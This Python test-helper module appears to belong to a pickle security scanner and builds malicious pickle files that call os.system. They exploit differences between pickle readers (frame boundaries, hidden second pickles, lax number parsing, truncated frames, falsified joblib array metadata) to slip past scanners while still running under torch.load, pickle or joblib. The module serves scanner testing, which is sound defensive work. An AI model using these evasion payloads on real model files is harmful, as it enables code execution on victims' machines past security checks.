"""Hand-built pickles that exploit the differences between how loaders read a stream.

Each builder returns bytes whose payload (when a loader runs it) only executes
``live.PAYLOAD_COMMAND`` through ``os.system``. The tests prove each one live
(tests/helpers/live.py) before asserting the scanner blocks it; the benign builders are the
neighbours that must keep passing.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

from tests.helpers.live import PAYLOAD_COMMAND

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
STOP = b"."


def u8(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def os_system_call(command: str = PAYLOAD_COMMAND) -> bytes:
    """GLOBAL os.system, then (command,) REDUCE: a protocol-0/1 style call, no STOP."""
    return b"cos\nsystem\n" + u8(command) + b"\x85R"


def payload_pickle() -> bytes:
    return PROTO2 + os_system_call() + STOP


# -- 1a: a text argument that crosses the end of its frame ----------------------------------------
def frame_crossing_get() -> bytes:
    """GET lines that cross frame ends: a flat reader (pickle.loads, a peekable file) takes memo 10
    and 11 (collections.OrderedDict), a reader of a non-peekable file (torch.load's io.BytesIO)
    drops the rest of the frame and takes memo 0 and 1 (os.system)."""
    memo = (
        u8("os") + b"q\x00" + b"0"  # BINPUT 0, POP
        + u8("system") + b"q\x01" + b"0"
        + u8("collections") + b"q\x0a" + b"0"
        + u8("OrderedDict") + b"q\x0b" + b"0"
    )  # fmt: skip
    return (
        PROTO4 + frame(memo + b"g1") + b"0\n" + frame(b"g1") + b"1\n" + b"\x93" + u8(PAYLOAD_COMMAND) + b"\x85R" + STOP
    )


def frame_crossing_binunicode() -> bytes:
    """A counted string cut by the end of its frame: the flat reader (pickle.loads) takes the
    string "collections", POPs it and pushes "os" (os.system); the BytesIO reader drops the cut
    part, swallows the POP and "os" into an 11-character string and resolves nothing."""
    after_frame = b"ctions" + b"0" + u8("os")  # flat: 6 string bytes, POP, "os"
    return (
        PROTO4
        + frame(b"\x8c\x0b" + b"colle")
        + after_frame
        + u8("system")
        + b"\x93"
        + u8(PAYLOAD_COMMAND)
        + (b"\x85R" + STOP)
    )


def stop_inside_frame() -> bytes:
    """STOP before the end of its frame, a second pickle hidden in the rest: a reader that loads
    twice from a peekable file (legacy torch.load, pickle.load(f) in a loop) runs the hidden one."""
    hidden = os_system_call() + STOP
    return PROTO4 + frame(b"K\x01" + STOP + hidden)


def nested_frame() -> bytes:
    """A FRAME inside an unfinished frame (the pure-Python unpickler refuses it)."""
    inner = frame(b"K\x01" + STOP)
    return PROTO4 + frame(b"N0" + inner + b"N0")


# -- 1b: numbers int() refuses but the C unpickler accepts -------------------------------------
def c_number_prefix(line: bytes) -> bytes:
    """A protocol-0 number line (``I0x10``, ``L0x10L``, ``I1_0``, ``F1.5\\x00x``...) popped, then the payload."""
    return line + b"\n0" + os_system_call() + STOP


def c_memo_line(put: bytes, get: bytes) -> bytes:
    """PUT/GET with text indices such as ``1_0`` or `` 10`` that Python's int() and the C
    unpickler's PyLong_FromString both accept (a walker using a strict parser errors)."""
    return b"S'x'\np" + put + b"\n0g" + get + b"\n0" + os_system_call() + STOP


def python_only_float() -> bytes:
    """A FLOAT the C unpickler refuses but the pure-Python one (joblib) reads, then the payload."""
    return b"F 1.5\n0" + os_system_call() + STOP


# -- 1c: a frame that runs past the end of the data ---------------------------------------------
def truncated_frame() -> bytes:
    """The pure-Python unpickler (joblib.load) runs what the short frame holds before failing."""
    body = os_system_call()
    return PROTO4 + b"\x95" + struct.pack("<Q", len(body) + 4096) + body


# -- 1d: a payload behind many no-op opcodes ------------------------------------------------------
def long_noop_prefix(count: int) -> bytes:
    return PROTO2 + b"N0" * count + os_system_call() + STOP


# -- wrappers ----------------------------------------------------------------------------------
def torch_zip(data_pkl: bytes, name: str = "archive") -> bytes:
    """A minimal PyTorch zip checkpoint whose data.pkl is ``data_pkl`` (what torch.load reads)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{name}/data.pkl", data_pkl)
        archive.writestr(f"{name}/byteorder", "little")
        archive.writestr(f"{name}/version", "3\n")
        archive.writestr(f"{name}/.data/serialization_id", "1234567890")
    return out.getvalue()


def benign_framed(obj: object = None) -> bytes:
    """What pickle writes at protocols 4 and 5: frames end at opcode boundaries."""
    value = obj if obj is not None else {"weights": [float(i) for i in range(5000)], "names": ["a"] * 3000}
    return pickle.dumps(value, protocol=4)


LOAD_BYTESIO = "import io, pickle, sys; pickle.load(io.BytesIO(open(sys.argv[1], 'rb').read()))"
LOAD_TWICE = "import pickle, sys; f = open(sys.argv[1], 'rb'); pickle.load(f); pickle.load(f)"


# -- joblib: array sizes as numpy computes them ----------------------------------------------------
_ELSIZE_MINUS_ONE = b"J\xff\xff\xff\xffJ\xff\xff\xff\xff"  # dtype state: elsize -1, alignment -1


def _joblib_float_array(path: Path, count: int) -> tuple[bytes, int, int]:
    """joblib.dump of one float64 array: (bytes, where the array bytes start, where they end)."""
    import joblib
    import numpy as np

    from modelgate.scan.pickle_scan import walk

    joblib.dump(np.arange(count, dtype=np.float64), path)
    data = path.read_bytes()
    skips = walk(data).skips
    ((before, after),) = skips.items()
    return data, before, after


def joblib_elsize_lie(path: Path, count: int = 16) -> bytes:
    """A float64 array whose dtype state claims 16-byte items: numpy (and so joblib) reads 8-byte
    items and goes on unpickling the bytes after them, where the payload sits; a scanner that
    believes the state steps over the payload."""
    data, _before, after = _joblib_float_array(path, count)
    assert data.count(_ELSIZE_MINUS_ONE) >= 1
    data = data.replace(_ELSIZE_MINUS_ONE, b"J\x10\x00\x00\x00J\xff\xff\xff\xff", 1)
    payload = b"K\x000" + os_system_call() + b"0"
    assert len(payload) % 2 == 0 and len(payload) <= 8 * count
    payload += b"N0" * ((8 * count - len(payload)) // 2)
    return data[:after] + payload + data[after:]


def joblib_object_flag_lie(path: Path, count: int = 16) -> bytes:
    """A float64 array whose dtype state sets the has-objects flag: joblib then unpickles what
    follows the wrapper as a nested pickle, and it is the payload."""
    data, before, after = _joblib_float_array(path, count)
    flags = _ELSIZE_MINUS_ONE + b"K\x00"
    assert flags in data
    data = data.replace(flags, _ELSIZE_MINUS_ONE + b"K\x01", 1)
    return data[:before] + payload_pickle() + data[after:]  # an object array has no padding
